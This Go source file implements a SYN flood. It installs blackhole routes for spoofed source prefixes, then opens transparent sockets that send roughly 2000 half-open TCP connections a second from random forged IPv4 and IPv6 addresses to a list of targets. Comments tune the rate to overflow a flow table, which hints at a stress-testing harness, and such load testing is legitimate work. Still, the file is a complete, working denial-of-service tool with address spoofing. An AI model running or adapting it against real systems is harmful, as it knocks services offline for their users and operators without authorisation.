package main

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// floodRate is how many connections a flood begins a second: more than the flow table has room
// for, and less than the router's connection tracking.
const floodRate = 2000

// floodSources are where a flood says it comes from, by family. Nobody has these addresses.
var floodSources = []netip.Prefix{netip.MustParsePrefix("198.19.128.0/17"), netip.MustParsePrefix("fd98:19:1::/64")}

// flood begins connections to the targets and establishes none, each from another address,
// until ctx ends: a SYN flood. It returns how many.
func flood(ctx context.Context, targets []netip.AddrPort) (sent int, err error) {
	for _, sources := range floodSources {
		// What is answered gets lost, without an ICMP message that would end the flow.
		route := netlink.Route{Dst: ipNet(sources), Type: unix.RTN_BLACKHOLE}
		if err := netlink.RouteReplace(&route); err != nil {
			return 0, fmt.Errorf("route %v: %w", route, err)
		}
	}
	const period = 10 * time.Millisecond
	tick := time.NewTicker(period)
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return sent, nil
		case <-tick.C:
		}
		for range floodRate * int(period) / int(time.Second) {
			if err := beginConnection(targets[sent%len(targets)]); err != nil {
				return sent, err
			}
			sent++
		}
	}
}

// beginConnection sends a SYN from an address that nobody has.
func beginConnection(target netip.AddrPort) error {
	family, level, transparent, sources := unix.AF_INET, unix.SOL_IP, unix.IP_TRANSPARENT, floodSources[0]
	if target.Addr().Is6() {
		family, level, transparent, sources = unix.AF_INET6, unix.SOL_IPV6, unix.IPV6_TRANSPARENT, floodSources[1]
	}
	fd, err := unix.Socket(family, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptInt(fd, level, transparent, 1); err != nil {
		return fmt.Errorf("flood: use foreign addresses: %w", err)
	}
	if err := unix.Bind(fd, sockaddr(netip.AddrPortFrom(randomAddr(sources), 0))); err != nil {
		return fmt.Errorf("flood: bind: %w", err)
	}
	err = unix.Connect(fd, sockaddr(target))
	if errors.Is(err, unix.EINPROGRESS) || errors.Is(err, unix.ENETUNREACH) || errors.Is(err, unix.EHOSTUNREACH) {
		return nil // or the target's node is rebooted
	}
	return fmt.Errorf("flood: connect to %s: %w", target, err)
}

// randomAddr returns an address of the prefix.
func randomAddr(p netip.Prefix) netip.Addr {
	b := p.Addr().AsSlice()
	for bit := p.Bits(); bit < 8*len(b); bit++ {
		b[bit/8] |= byte(rand.IntN(2)) << (7 - bit%8)
	}
	addr, _ := netip.AddrFromSlice(b)
	return addr
}

func sockaddr(a netip.AddrPort) unix.Sockaddr {
	if a.Addr().Is4() {
		return &unix.SockaddrInet4{Addr: a.Addr().As4(), Port: int(a.Port())}
	}
	return &unix.SockaddrInet6{Addr: a.Addr().As16(), Port: int(a.Port())}
}
